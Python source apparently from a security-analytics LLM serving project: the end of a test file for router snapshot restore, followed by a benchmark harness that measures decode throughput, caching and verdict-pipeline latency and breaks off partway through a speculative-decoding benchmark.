    pool.replicas[0].kill()  # r0 dies while the router is down
    router2 = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    )
    try:
        router2.start()  # start() restores with probe-before-trust
        restored = router2.status()["affinity_chains"]
        assert 0 < restored < 8  # r0's chains dropped, r1's kept
        # every restored chain is assigned to the one live backend
        for key, _, _ in router2._affinity.export_entries():
            assert router2._affinity.lookup(key) == "r1"
    finally:
        router2.stop(save_snapshot=False)
        pool.stop()


def test_router_snapshot_age_decays_brownout_state(tmp_path):
    """Restored ladder stage decays with snapshot age: a fresh snapshot
    resumes the brownout, a stale one restores to normal — yesterday's
    pressure must not brown out today's healthy fleet."""
    import time as _time

    from chronos_trn.utils.journal import atomic_write_json, load_json_snapshot

    snap_path = str(tmp_path / "router.json")
    fcfg = _fcfg(snapshot_path=snap_path, snapshot_stale_after_s=30.0)
    pool = ReplicaPool.heuristic(1).start()

    def _restore_with(saved_at):
        snap = load_json_snapshot(snap_path)
        snap["saved_at"] = saved_at
        snap["ladder"] = {"stage": 2, "pin_floor": 0}
        atomic_write_json(snap_path, snap)
        r = FleetRouter(
            pool.remote_backends(fcfg), fleet_cfg=fcfg,
            server_cfg=ServerConfig(host="127.0.0.1", port=0),
        )
        summary = r.restore_snapshot()
        r.httpd.server_close()  # never started: stop() would block
        return summary

    seed_router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    )
    seed_router.save_snapshot()
    seed_router.httpd.server_close()  # never started: stop() would block
    try:
        fresh = _restore_with(_time.time())
        assert fresh["restored"] and fresh["ladder_stage"] == 2
        stale = _restore_with(_time.time() - 3600.0)
        assert stale["restored"] and stale["ladder_stage"] == 0
        assert stale["age_s"] >= 3600.0
    finally:
        pool.stop()


def test_router_snapshot_corrupt_or_missing_is_cold_start(tmp_path):
    """A torn, foreign-versioned, or absent snapshot restores nothing
    and never raises — the router degrades to cold start."""
    snap_path = str(tmp_path / "router.json")
    fcfg = _fcfg(snapshot_path=snap_path)
    pool = ReplicaPool.heuristic(1).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    )
    try:
        assert router.restore_snapshot()["restored"] is False  # missing
        with open(snap_path, "w") as fh:
            fh.write('{"version": 1, "affin')  # torn mid-write
        assert router.restore_snapshot()["restored"] is False
        with open(snap_path, "w") as fh:
            json.dump({"version": 99, "saved_at": 0}, fh)  # future format
        assert router.restore_snapshot()["restored"] is False
        router.start()  # cold start still serves
        assert _post(router, build_verdict_prompt(_CHAIN))[0] == 200
    finally:
        router.stop(save_snapshot=False)
        pool.stop()
