"""Benchmark harness — prints ONE JSON line with the headline metric.

Headline: tokens/sec/chip of the engine's FUSED decode — the serving
default path (slot-contiguous KV pool, ``decode_chunk`` steps per device
dispatch, sampling on device: serving/engine.decode_fused).  One
Trainium2 chip = 8 NeuronCores; the 8B tier runs tensor-parallel across
all 8 cores (tp=8), so aggregate decode throughput IS the per-chip
number.  On CPU (no trn) it falls back to the tiny config so the
harness always produces a line.

vs_baseline: the reference served Llama-3-8B through Ollama on an
unspecified "Windows GPU node" (reference README.md:21) with NO
published numbers (BASELINE.md).  We anchor against 40 tok/s — a
generous estimate for an Ollama fp16 8B on a consumer GPU — so
vs_baseline = measured / 40.0 for the 8B tier.  The honest engineering
target is the chip's HBM roofline (see docs/KERNELS.md), reported as
``detail.roofline_tokens_per_s`` / ``detail.roofline_frac``.

The headline JSON line is emitted IMMEDIATELY after the fused-decode
measurement + roofline — optional stages run after it and can never
starve the driver artifact (VERDICT r3 weak #2).  Detail rows
(``--compare`` fused-vs-per-step, ``--pipeline`` heuristic + MODEL
verdict pipelines) run post-emit under ``--budget`` and are written to
``--detail-out`` (default benchmarks/bench_detail.json), keeping stdout
at exactly one JSON line.
"""
from __future__ import annotations

import argparse
import json
import sys
import threading
import time

import numpy as np

REFERENCE_8B_TOKS = 40.0  # documented assumption, see module docstring


def log(*a):
    print(*a, file=sys.stderr, flush=True)


# --------------------------------------------------------------------------
# Tier construction
# --------------------------------------------------------------------------
def build_tier(config_name: str, batch: int, chunk: int):
    import jax

    from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig

    n_dev = len(jax.devices())
    if config_name == "8b":
        cfg = ModelConfig.llama3_8b()
        tp = n_dev  # whole chip
        # context capacity 512/slot: kill-chain verdict prompts fit well
        # inside 512; the 70B analyst tier owns the long-context story.
        ccfg = CacheConfig.for_slots(batch, page_size=16, max_pages_per_seq=32)
    elif config_name == "1b":
        cfg = ModelConfig.llama3_1b()
        tp = min(8, n_dev)
        ccfg = CacheConfig.for_slots(batch, page_size=16, max_pages_per_seq=32)
    else:
        cfg = ModelConfig.tiny()
        tp = 1
        ccfg = CacheConfig.for_slots(batch, page_size=8, max_pages_per_seq=16)
    # the chunk must leave room for warmup + >=1 timed chunk inside the
    # tier's context (tiny's ctx 128 cannot hold the 8B default of 64)
    chunk = min(chunk, max(1, (ccfg.max_context - PROMPT_LEN - 1) // 2))
    # device_dfa=False: installing the device JSON-DFA makes EVERY fused
    # round take the use_dfa=True graph — a SECOND ~2.5 h neuronx-cc
    # compile of the unrolled chunk (the non-DFA graph alone took 8828 s
    # cold, r5).  The bench engine serves unconstrained decode from the
    # one cached graph; JSON-constrained decode is covered by the CPU
    # test suite and the tiny tier.
    ecfg = EngineConfig(
        max_batch_slots=batch,
        prefill_buckets=(64, ccfg.max_context),
        decode_chunk=chunk,
        fused_decode=True,
        device_dfa=False,
    )
    return cfg, ccfg, ecfg, tp


def fast_init_params(cfg, pshard):
    """Cheap deterministic weights, generated ON DEVICE in one jit
    (checkpoints.loader.cheap_row_init_device): one compile, no 16 GB
    host transfer, no HLO constants."""
    import jax

    from chronos_trn.checkpoints.loader import cheap_row_init_device
    from chronos_trn.core import model

    template = jax.eval_shape(lambda: model.init_params(cfg, jax.random.PRNGKey(0)))
    fn = jax.jit(
        lambda: jax.tree.map(
            lambda t: cheap_row_init_device(t.shape, t.dtype), template
        ),
        out_shardings=pshard,
    )
    params = fn()
    jax.block_until_ready(params)
    return params


def build_engine(config_name: str, batch: int, chunk: int,
                 quant_mode: str = "none"):
    import dataclasses

    import jax

    from chronos_trn.parallel import mesh as mesh_lib
    from chronos_trn.parallel import sharding
    from chronos_trn.serving.engine import InferenceEngine

    cfg, ccfg, ecfg, tp = build_tier(config_name, batch, chunk)
    platform = jax.devices()[0].platform
    log(f"[bench] platform={platform} devices={len(jax.devices())} "
        f"config={cfg.name} tp={tp} batch={batch} chunk={chunk} "
        f"quant={quant_mode}")
    mesh = mesh_lib.make_mesh(dp=1, sp=1, tp=tp) if tp > 1 else None
    t0 = time.time()
    if mesh is not None:
        pshard = sharding.to_shardings(sharding.param_specs(cfg), mesh)
    else:
        pshard = None
    params = fast_init_params(cfg, pshard)
    if quant_mode == "int8":
        # quantize the SAME deterministic weights the bf16 tier uses (the
        # A/B twin rebuilds them bit-identically), in one jit so the
        # neuron backend pays one compile, with explicit out_shardings
        # so scale tensors land per the quant param_specs
        from chronos_trn.core import quant as quant_lib

        qshard = (
            sharding.to_shardings(
                sharding.param_specs(cfg, quant="int8"), mesh
            )
            if mesh is not None else None
        )
        qfn = jax.jit(quant_lib.quantize_params, out_shardings=qshard)
        params = qfn(params)
        jax.block_until_ready(params)
        cfg = dataclasses.replace(cfg, quant="int8")
        ecfg = dataclasses.replace(ecfg, quant="int8")
    log(f"[bench] params ready in {time.time() - t0:.1f}s")
    engine = InferenceEngine(params, cfg, ccfg, ecfg, mesh=mesh)
    return engine, cfg, ccfg, ecfg, platform


# --------------------------------------------------------------------------
# Decode benches (engine-level: what serving actually runs)
# --------------------------------------------------------------------------
PROMPT_LEN = 32


def _occupy_all(engine, prompt_len=PROMPT_LEN):
    prompt = list((np.arange(prompt_len) % 128).astype(int))
    t0 = time.time()
    for slot in range(engine.B):
        engine.occupy(slot, slot)
        engine.prefill_seq(slot, prompt)
    prefill_s = (time.time() - t0) / engine.B
    log(f"[bench] prefill {prompt_len} toks x {engine.B} slots: "
        f"{prefill_s * 1000:.1f} ms/seq (includes compile on first)")
    return prefill_s


def _release_all(engine):
    for slot in range(engine.B):
        if engine.slots[slot] is not None:
            engine.release(engine.slots[slot])


def bench_decode_fused(engine, steps: int, tracer=None):
    """Time the fused serving path: engine.decode_fused chunks, greedy,
    no stops — every slot feeds `chunk` tokens per dispatch.  Sequences
    are bounded by max_context, so long timings run in epochs: re-prefill
    (untimed) and keep timing decode chunks until `steps` are measured.

    ``tracer`` (a utils.trace.Tracer) turns on the SAME per-dispatch
    span recording the scheduler does for traced requests (one
    ``sched.decode_step`` record per slot per chunk), so an A/B of
    tracer=None vs tracer=GLOBAL measures the true tracing overhead on
    the hot path (``--trace``)."""
    B, chunk = engine.B, engine.ecfg.decode_chunk
    samp = {s: (0.0, 1.0, 0, 10**6) for s in range(B)}  # greedy, huge budget
    prefill_s = None
    warmed = False
    timed_chunks = 0
    elapsed = 0.0
    want_chunks = max(1, steps // chunk)
    if tracer is not None:
        from chronos_trn.utils.trace import new_span_id, new_trace_id
        trace_ids = {s: new_trace_id() for s in range(B)}
        parent_ids = {s: new_span_id() for s in range(B)}

    try:
        while timed_chunks < want_chunks:
            pf = _occupy_all(engine)
            prefill_s = prefill_s if prefill_s is not None else pf
            feed = {s: 1 for s in range(B)}
            pos = PROMPT_LEN

            def run_chunk():
                nonlocal feed, pos
                t_d0 = time.monotonic()
                out, done, _ = engine.decode_fused(feed, samp)
                if tracer is not None:
                    t_d1 = time.monotonic()
                    for s in out:
                        tracer.record(
                            "sched.decode_step", trace_ids[s],
                            parent_ids[s], t_d0, t_d1,
                            attrs={"batch": B, "fused": True,
                                   "tokens": chunk},
                        )
                assert all(len(v) == chunk for v in out.values()), "slot stopped early"
                feed = {s: int(out[s][-1]) for s in out}
                pos += chunk

            if not warmed:
                log("[bench] warmup fused decode (compile) …")
                t0 = time.time()
                run_chunk()
                log(f"[bench] warmup done in {time.time() - t0:.1f}s")
                warmed = True
            cap = (engine.ccfg.max_context - pos - 1) // chunk  # chunks left
            n = min(cap, want_chunks - timed_chunks)
            assert n > 0, "context too small for even one timed chunk"
            t0 = time.time()
            for _ in range(n):
                run_chunk()
            elapsed += time.time() - t0
            timed_chunks += n
            _release_all(engine)
    finally:
        _release_all(engine)

    toks = timed_chunks * chunk * B
    toks_per_s = toks / elapsed
    ms_per_step = elapsed / (timed_chunks * chunk) * 1000
    log(f"[bench] fused: {toks_per_s:.2f} tok/s aggregate "
        f"({ms_per_step:.2f} ms/step, batch {B}, chunk {chunk})")
    return {
        "decode_tokens_per_s": toks_per_s,
        "ms_per_step": ms_per_step,
        "prefill_s_per_seq": prefill_s,
        "steps": timed_chunks * chunk,
    }


def bench_decode_perstep(engine, steps: int):
    """Comparison row: one decode step per dispatch (host round trip +
    top-k shipping per token) on the SAME slot-contiguous pool."""
    B = engine.B
    # steps are bounded by per-slot context; clamp so a large --steps
    # cannot OutOfPages mid-run
    steps = min(steps, engine.ccfg.max_context - PROMPT_LEN - 4)
    _occupy_all(engine)
    feed = {s: 1 for s in range(B)}

    def run(n):
        nonlocal feed
        for _ in range(n):
            out = engine.decode(feed)
            feed = {s: int(out[s][1][0]) for s in out}  # greedy: top-1 id

    try:
        log("[bench] warmup per-step decode (compile) …")
        run(2)
        t0 = time.time()
        run(steps)
        elapsed = time.time() - t0
    finally:
        # always hand the slots back: the model-pipeline bench reuses
        # this engine, and a leaked slot starves its scheduler
        _release_all(engine)
    toks_per_s = steps * B / elapsed
    log(f"[bench] per-step: {toks_per_s:.2f} tok/s aggregate "
        f"({elapsed / steps * 1000:.2f} ms/step, batch {B})")
    return {"perstep_tokens_per_s": toks_per_s,
            "perstep_ms_per_step": elapsed / steps * 1000}


def bench_long_context(params, cfg, mesh, prompt_tokens: int = 3200,
                       chunks: int = 4):
    """Long-kill-chain serving row (VERDICT r4 #7): a second engine on
    the SAME params with an 8-slot x 4096-token slot-major pool.  The
    prompt runs as chunked prefill (512-token pieces — one compiled
    graph); decode runs the fused path at long context.  Reports prefill
    wall (the TTFT component) and decode tok/s with ~3.2k cached tokens
    per slot."""
    import jax

    from chronos_trn.config import CacheConfig, EngineConfig
    from chronos_trn.serving.engine import InferenceEngine

    B = 8
    ccfg = CacheConfig.for_slots(B, page_size=16, max_pages_per_seq=256)
    ecfg = EngineConfig(
        max_batch_slots=B, prefill_buckets=(512,), decode_chunk=64,
        fused_decode=True, device_dfa=False,
    )
    engine = InferenceEngine(params, cfg, ccfg, ecfg, mesh=mesh)
    prompt = list((np.arange(prompt_tokens) % 911).astype(int))
    log(f"[bench] longctx: prefill {prompt_tokens} toks x {B} slots "
        f"(chunked 512) …")
    # slot 0 pays the two compiles (chunked prefill + fused decode);
    # time the remaining slots as the steady-state number
    engine.occupy(0, 0)
    engine.prefill_seq(0, prompt)
    t0 = time.time()
    for slot in range(1, B):
        engine.occupy(slot, slot)
        engine.prefill_seq(slot, prompt)
    prefill_s = (time.time() - t0) / (B - 1)
    samp = {s: (0.0, 1.0, 0, 10**6) for s in range(B)}
    feed = {s: 1 for s in range(B)}
    out, _, _ = engine.decode_fused(feed, samp)  # compile + warm
    feed = {s: int(out[s][-1]) for s in out}
    t0 = time.time()
    for _ in range(chunks):
        out, _, _ = engine.decode_fused(feed, samp)
        feed = {s: int(out[s][-1]) for s in out}
    elapsed = time.time() - t0
    toks = chunks * ecfg.decode_chunk * B
    for s in range(B):
        engine.release(s)
    row = {
        "longctx_context": ccfg.max_context,
        "longctx_prompt_tokens": prompt_tokens,
        "longctx_prefill_s_per_seq": round(prefill_s, 3),
        "longctx_decode_tokens_per_s": round(toks / elapsed, 2),
        "longctx_ms_per_step": round(
            elapsed / (chunks * ecfg.decode_chunk) * 1000, 2),
    }
    log(f"[bench] longctx: {row}")
    return row


# --------------------------------------------------------------------------
# Verdict pipeline benches
# --------------------------------------------------------------------------
def bench_verdict_pipeline():
    """p50 verdict latency + events/sec through monitor + scheduler with
    the heuristic analyst (wire-level, in-process server)."""
    from chronos_trn.config import SensorConfig, ServerConfig
    from chronos_trn.sensor import simulator
    from chronos_trn.sensor.client import KillChainMonitor
    from chronos_trn.serving.backends import HeuristicBackend
    from chronos_trn.serving.server import ChronosServer

    server = ChronosServer(HeuristicBackend(), ServerConfig(host="127.0.0.1", port=0))
    server.start()
    try:
        cfg = SensorConfig(
            server_url=f"http://127.0.0.1:{server.port}/api/generate"
        )
        mon = KillChainMonitor(cfg, alert_fn=lambda s: None)
        events = list(simulator.interleaved_streams(64, attack_every=8))
        lat = []
        t0 = time.time()
        for ev in events:
            t1 = time.time()
            n_before = len(mon.verdicts)
            mon.on_event(ev)
            if len(mon.verdicts) > n_before:
                lat.append(time.time() - t1)
        wall = time.time() - t0
        return {
            "events_per_s": len(events) / wall,
            "p50_verdict_s": float(np.percentile(lat, 50)) if lat else None,
            "chains_analyzed": len(mon.verdicts),
            # self-describing methodology (mirrors the model_* fields in
            # bench_verdict_pipeline_model): a pipeline number without
            # its analyst/decoding mode is a future re-anchor surprise
            "pipeline_backend": "heuristic",
            "pipeline_format_json": True,      # heuristic emits JSON directly
            "pipeline_stop_ids_pinned": False,  # no token stream to pin
            "pipeline_device_dfa": False,       # no device in the loop
        }
    finally:
        server.stop()


def bench_wal_ab(n_streams: int = 64):
    """Durability-overhead A/B (PR 17): the heuristic verdict pipeline
    run twice against one in-process server — once with the sensor's
    crash-safe plumbing ON (WAL-backed spool + periodic chain-window
    checkpoints at the default cadence) and once OFF.  The brain stays
    healthy, so the measured cost is the steady-state durability tax
    (checkpoint writes; the spool WAL only pays on failures), which is
    exactly the number that decides whether --wal-dir can default on.
    Headline: wal_overhead_frac = 1 - on/off events-per-sec, expected
    < 5% and gated there under --strict-perf."""
    import os as _os
    import shutil as _shutil
    import tempfile as _tempfile

    from chronos_trn.config import SensorConfig, ServerConfig
    from chronos_trn.sensor import simulator
    from chronos_trn.sensor.client import KillChainMonitor
    from chronos_trn.serving.backends import HeuristicBackend
    from chronos_trn.serving.server import ChronosServer

    server = ChronosServer(HeuristicBackend(),
                           ServerConfig(host="127.0.0.1", port=0))
    server.start()
    wal_dir = _tempfile.mkdtemp(prefix="chronos-bench-wal-")
    try:
        events = list(simulator.interleaved_streams(n_streams, attack_every=8))

        def run(wal: bool):
            cfg = SensorConfig(
                server_url=f"http://127.0.0.1:{server.port}/api/generate",
                **({"wal_dir": wal_dir} if wal else {}),
            )
            mon = KillChainMonitor(cfg, alert_fn=lambda s: None)
            t0 = time.time()
            for _pass in range(3):  # lengthen the timed region: the tax
                for ev in events:   # is ms-scale checkpoint I/O, smaller
                    mon.on_event(ev)  # than one-pass scheduler jitter
            wall = time.time() - t0
            chains = len(mon.verdicts)
            mon.close()
            return 3 * len(events) / wall, chains, cfg

        # alternate the arms (flipping order each pair, so drift never
        # lands on one arm) and keep each arm's BEST pass: scheduler /
        # HTTP-stack noise only ever inflates wall clock, so min-wall
        # is the honest estimator of each arm's true cost
        offs, ons = [], []
        run(True)  # warm the page cache / allocator off the record
        for i in range(5):
            first, second = (False, True) if i % 2 == 0 else (True, False)
            for arm in (first, second):
                (ons if arm else offs).append(run(arm))
        eps_off, chains_off, _ = max(offs)
        eps_on, chains_on, cfg_on = max(ons)
        wal_bytes = sum(
            _os.path.getsize(_os.path.join(root, name))
            for root, _dirs, names in _os.walk(wal_dir)
            for name in names
        )
        overhead = 1.0 - eps_on / max(eps_off, 1e-9)
        return {
            "wal_events_per_s_on": round(eps_on, 2),
            "wal_events_per_s_off": round(eps_off, 2),
            "wal_overhead_frac": round(overhead, 4),
            "wal_within_5pct": overhead < 0.05,
            "wal_chains_on": chains_on,
            "wal_chains_off": chains_off,
            "wal_dir_bytes": wal_bytes,
            # methodology: overhead only compares within one durability
            # shape — cadence or backend changes move the tax by design
            "wal_backend": "heuristic",
            "wal_checkpoint_interval_events":
                cfg_on.checkpoint_interval_events,
        }
    finally:
        server.stop()
        _shutil.rmtree(wal_dir, ignore_errors=True)


def bench_verdict_pipeline_model(engine, ecfg, n_streams: int = 64,
                                 max_new: int = 48):
    """Model-in-the-loop pipeline (VERDICT r2 #4): replay the 64-stream
    simulator through the kill-chain monitor, but verdicts are generated
    by the MODEL via the continuous-batching scheduler — submission is
    asynchronous (the monitor's trigger enqueues; the batch decodes many
    chains concurrently), which is this framework's fix for the
    reference's blocking-callback flaw (SURVEY.md §3.3)."""
    from chronos_trn.config import SensorConfig
    from chronos_trn.sensor import simulator
    from chronos_trn.sensor.client import KillChainMonitor, build_verdict_prompt
    from chronos_trn.serving.backends import ModelBackend
    from chronos_trn.serving.scheduler import GenOptions, Scheduler
    from chronos_trn.tokenizer.bpe import ByteTokenizer

    tok = ByteTokenizer(vocab_size=engine.mcfg.vocab_size)
    sched = Scheduler(engine, tok, ecfg)
    # the Scheduler installs the tokenizer's TWO stop ids, but the
    # compiled fused NEFF was traced with the engine default shape
    # [1] — a different n_stop is a new shape and a multi-hour
    # recompile.  Pin the device stop list to ONE real stop id (same
    # shape as compiled): the device halts mid-chunk on that id; the
    # secondary stop id is only caught by the scheduler's chunk-boundary
    # check, so a request emitting it mid-chunk runs to its budget —
    # acceptable for a throughput/latency benchmark with random weights.
    # Fixed-width stop padding is the round-6 fix (changes the compiled
    # shape, so it must ride a planned recompile).
    engine.set_stop_ids([max(tok.stop_ids)])
    sched.start()
    backend = ModelBackend(sched)
    lat = []
    lat_lock = threading.Lock()
    waiters = []

    class _AsyncClient:
        """Monitor-facing client that submits to the scheduler without
        blocking the event loop; completion latency is recorded by a
        waiter thread per request."""

        def analyze(self, history):
            # format_json=False: constrained decode would either compile
            # the DFA-variant fused graph (hours, see build_tier) or drop
            # every constrained round to the per-step path (fixed ~110 ms
            # per token-dispatch) — neither measures the serving pipeline.
            # The metric here is events/s + TTFT-to-verdict with the 8B
            # MODEL in the loop; grammar-constrained decode is validated
            # functionally in tests (CPU) and the tiny tier.
            req = backend.submit(
                build_verdict_prompt(history),
                GenOptions(max_new_tokens=max_new, format_json=False),
            )
            t0 = time.time()

            def wait():
                try:
                    req.result(timeout=600)
                except Exception:
                    pass
                with lat_lock:
                    lat.append(time.time() - t0)

            th = threading.Thread(target=wait, daemon=True)
            th.start()
            waiters.append(th)
            return {"risk_score": 0, "verdict": "PENDING", "reason": ""}

    try:
        log(f"[bench] model pipeline: warmup (compile fused+DFA graph) …")
        t0 = time.time()
        sched.warmup()
        log(f"[bench] model pipeline warmup in {time.time() - t0:.1f}s")
        mon = KillChainMonitor(
            SensorConfig(), client=_AsyncClient(), alert_fn=lambda s: None
        )
        events = list(simulator.interleaved_streams(n_streams, attack_every=8))
        t0 = time.time()
        for ev in events:
            mon.on_event(ev)
        submitted = len(waiters)
        for th in waiters:
            th.join(timeout=600)
        wall = time.time() - t0
        from chronos_trn.utils.metrics import GLOBAL as METRICS

        snap = METRICS.snapshot() if hasattr(METRICS, "snapshot") else {}
        return {
            "model_events_per_s": len(events) / wall,
            "model_p50_verdict_s": float(np.percentile(lat, 50)) if lat else None,
            "model_p99_verdict_s": float(np.percentile(lat, 99)) if lat else None,
            "model_chains_analyzed": submitted,
            "model_wall_s": wall,
            "model_decode_tokens_total": snap.get("decode_tokens"),
            "model_prefill_tokens_total": snap.get("prefill_tokens"),
            "model_requests_completed": snap.get("requests_completed"),
            "model_requests_truncated": snap.get("requests_truncated"),
            # methodology fields (ADVICE r5 #3): make each bench_detail
            # row self-describing across rounds — WHAT was measured, not
            # just the numbers.  format_json=False and the single pinned
            # stop id are deliberate caveats documented above.
            "model_format_json": False,
            "model_stop_ids_pinned": True,
            "model_device_dfa": bool(engine.has_dfa),
            "model_max_new_tokens": max_new,
            "model_n_streams": n_streams,
        }
    finally:
        sched.stop()


def bench_prefix_cache(params, mcfg, n_sensors: int = 8, depth: int = 4):
    """Shared-prefix verdict workload (ISSUE 3 acceptance): N sensors,
    each re-sending its growing kill chain ``depth`` times behind one
    shared analyst preamble — the exact append-only redundancy the
    cross-request prefix cache (core.prefix_cache) converts into
    throughput.  Runs the SAME request stream through a cache-on and a
    cache-off engine (identical params/geometry, paged layout = true
    page sharing) and reports prefill tokens computed, hit rate, and a
    first-token equality check (greedy outputs must not change).

    Token counts are the steady-state signal; the wall_s rows include
    FIRST-USE graph compiles (the cache-on run traces the small-bucket
    suffix graphs), which dominate on a cold CPU run and are amortized
    to zero in serving (NEFF/jit cache)."""
    from chronos_trn.config import CacheConfig, EngineConfig
    from chronos_trn.serving.engine import InferenceEngine
    from chronos_trn.utils.metrics import GLOBAL as METRICS

    ps = 16
    preamble_pages, event_pages = 4, 1
    preamble = list(range(2, 2 + preamble_pages * ps))
    rng = np.random.default_rng(7)
    chains = rng.integers(
        2, mcfg.vocab_size - 1, size=(n_sensors, depth * event_pages * ps)
    ).tolist()
    # request d of sensor s = preamble + first d events of its chain
    stream = [
        (s, preamble + chains[s][: d * event_pages * ps])
        for s in range(n_sensors)
        for d in range(1, depth + 1)
    ]
    ccfg = CacheConfig(page_size=ps, num_pages=256, max_pages_per_seq=16)

    def run(enabled: bool):
        ecfg = EngineConfig(
            max_batch_slots=4, fused_decode=False,
            prefix_cache=enabled, prefix_cache_pages=128,
        )
        eng = InferenceEngine(params, mcfg, ccfg, ecfg)
        before = METRICS.snapshot()
        first_tokens = []
        t0 = time.time()
        for i, (s, ids) in enumerate(stream):
            slot = eng.free_slot()
            eng.occupy(slot, i)
            logits = eng.prefill_seq(i, ids)
            first_tokens.append(int(np.argmax(logits)))
            eng.release(i)
            eng.slots[slot] = None
        wall = time.time() - t0
        after = METRICS.snapshot()
        d = {k: after.get(k, 0.0) - before.get(k, 0.0)
             for k in ("prefill_tokens", "prefix_cache_hit_tokens",
                       "prefix_cache_miss_tokens", "prefix_cache_evictions")}
        return first_tokens, wall, d

    toks_off, wall_off, d_off = run(False)
    toks_on, wall_on, d_on = run(True)
    computed_on = d_on["prefill_tokens"]
    computed_off = d_off["prefill_tokens"]
    hit = d_on["prefix_cache_hit_tokens"]
    total = hit + d_on["prefix_cache_miss_tokens"]
    return {
        "prefixcache_on_prefill_tokens": int(computed_on),
        "prefixcache_off_prefill_tokens": int(computed_off),
        "prefixcache_tokens_saved": int(computed_off - computed_on),
        "prefixcache_reduction_frac": round(
            1.0 - computed_on / max(1.0, computed_off), 4),
        "prefixcache_hit_rate": round(hit / max(1.0, total), 4),
        "prefixcache_evictions": int(d_on["prefix_cache_evictions"]),
        "prefixcache_outputs_match": toks_on == toks_off,
        "prefixcache_on_wall_s": round(wall_on, 4),
        "prefixcache_off_wall_s": round(wall_off, 4),
        # methodology: what was measured — sequential prefills (no
        # batching noise), paged layout (refcounted page sharing; the
        # slot-major serving layout reuses via row copy instead),
        # greedy first-token equality as the output-identity probe
        "prefixcache_layout": "paged",
        "prefixcache_n_sensors": n_sensors,
        "prefixcache_chain_depth": depth,
        "prefixcache_page_size": ps,
        "prefixcache_preamble_pages": preamble_pages,
        "prefixcache_event_pages": event_pages,
    }


def bench_semcache(params, mcfg, repeats: int = 4, max_new: int = 24):
    """Semantic triage cache A/B (ISSUE 20) on the labeled MITRE
    mini-corpus (testing.corpus: T1105/T1021/T1053 + benign
    look-alikes).  Two passes through the real scheduler over the same
    request stream:

    * OFF: no semcache — every chain pays prefill + the decode loop
      (the miss cost; its latencies are the p50 TTFV(miss) series);
    * ON: the cache is pre-warmed with the corpus's ground-truth
      verdicts keyed by prefill-time embeddings (standing in for the
      cascade's answers — the untrained bench model cannot produce
      them, a deployed 1B/8B does), then the stream replays: benign
      chains short-circuit at tier 0, malicious chains sit in
      MALICIOUS-adjacent neighborhoods and MUST escalate to the LLM.

    The safety gate is absolute, not a trend: ZERO requests whose
    ground-truth label is MALICIOUS may be answered with
    source=semcache (``semcache_false_benign_shortcircuits``,
    enforced under --strict-perf)."""
    from chronos_trn.config import CacheConfig, EngineConfig
    from chronos_trn.semcache import SemCache
    from chronos_trn.serving.engine import InferenceEngine
    from chronos_trn.serving.scheduler import GenOptions, Scheduler
    from chronos_trn.testing.corpus import chains
    from chronos_trn.tokenizer.bpe import ByteTokenizer

    corpus = chains(seed=0)
    prompts = [(c, "\n".join(e.format() for e in c.events))
               for c in corpus]
    ccfg = CacheConfig(page_size=16, num_pages=512, max_pages_per_seq=32)
    ecfg = EngineConfig(max_batch_slots=4, prefill_buckets=(64, 128, 256),
                        max_new_tokens=max_new)
    engine = InferenceEngine(params, mcfg, ccfg, ecfg)
    tok = ByteTokenizer(vocab_size=mcfg.vocab_size)

    # ground-truth embeddings: the same encode + prefill the scheduler's
    # admission path performs (prompts are short enough to never clamp)
    engine.collect_pooled = True
    pooled = {}
    for i, (c, text) in enumerate(prompts):
        ids = tok.encode(text, bos=True)
        engine.prefill_seq(90_000 + i, ids)
        pooled[c.name] = engine.last_pooled
        engine.release(90_000 + i)

    def run(sc):
        sched = Scheduler(engine, tok, ecfg, semcache=sc,
                          semcache_tier="1b")
        sched.start()
        lat, rows = [], []
        try:
            t0 = time.time()
            for _ in range(repeats):
                for c, text in prompts:
                    t1 = time.time()
                    req = sched.submit(text, GenOptions(
                        max_new_tokens=max_new, format_json=True))
                    req.result(timeout=600)
                    lat.append(time.time() - t1)
                    rows.append((c, req.source,
                                 getattr(req, "sem_escalate", False)))
            wall = time.time() - t0
        finally:
            sched.stop()
        return wall, lat, rows

    wall_off, lat_off, _ = run(None)

    sc = SemCache(dim=mcfg.dim, capacity=256, top_k=4,
                  threshold=0.92, margin=0.04, min_agree=2)
    for c, _text in prompts:
        verdict = ({"risk_score": 9, "verdict": "MALICIOUS",
                    "reason": f"{c.mitre_id} {c.name}"}
                   if c.malicious else
                   {"risk_score": 1, "verdict": "SAFE",
                    "reason": c.name})
        # twice: the policy's min_agree=2 consensus bar
        sc.insert(pooled[c.name], verdict, tier="1b")
        sc.insert(pooled[c.name], verdict, tier="1b")
    wall_on, lat_on, rows_on = run(sc)

    hits = [(c, lt) for (c, src, _esc), lt in zip(rows_on, lat_on)
            if src == "semcache"]
    false_benign = sum(1 for c, _lt in hits if c.malicious)
    escalations = sum(1 for c, _src, esc in rows_on
                      if esc and c.malicious)
    n = len(rows_on)
    st = sc.status()
    return {
        "semcache_hit_rate": round(len(hits) / max(1, n), 4),
        "semcache_verdicts_per_s_on": round(n / wall_on, 3),
        "semcache_verdicts_per_s_off": round(n / wall_off, 3),
        "semcache_verdicts_uplift": round(wall_off / wall_on, 3),
        "semcache_p50_ttfv_hit_s": round(float(np.percentile(
            [lt for _c, lt in hits], 50)), 5) if hits else None,
        "semcache_p50_ttfv_miss_s": round(float(np.percentile(
            lat_off, 50)), 5),
        # the absolute safety gate: MALICIOUS ground truth must never
        # be answered from the cache
        "semcache_false_benign_shortcircuits": int(false_benign),
        "semcache_malicious_escalations": int(escalations),
        "semcache_corpus_chains": len(prompts),
        "semcache_repeats": repeats,
        "semcache_threshold": st["threshold"],
        "semcache_min_agree": st["min_agree"],
        # methodology: ground-truth verdicts pre-warmed (exact-replay
        # recurrence; cross-variant generalization needs trained
        # embeddings), full scheduler in the loop, DFA-constrained
        # decode as the miss cost
        "semcache_backend": "model",
        "semcache_prewarmed": True,
    }


def bench_spec(params, mcfg, n_sensors: int = 8, max_new: int = 128):
    """Speculative decoding A/B (ISSUE 11 acceptance): the 8-sensor
    repeated-chain verdict workload — each sensor's prompt is a shared
    analyst preamble plus its own verbatim-repeating event chain, the
    self-similar text the n-gram prompt-lookup proposer exists for —
    generated to completion through TWO schedulers, spec on and spec
    off, otherwise identical (paged layout, per-step decode, greedy).

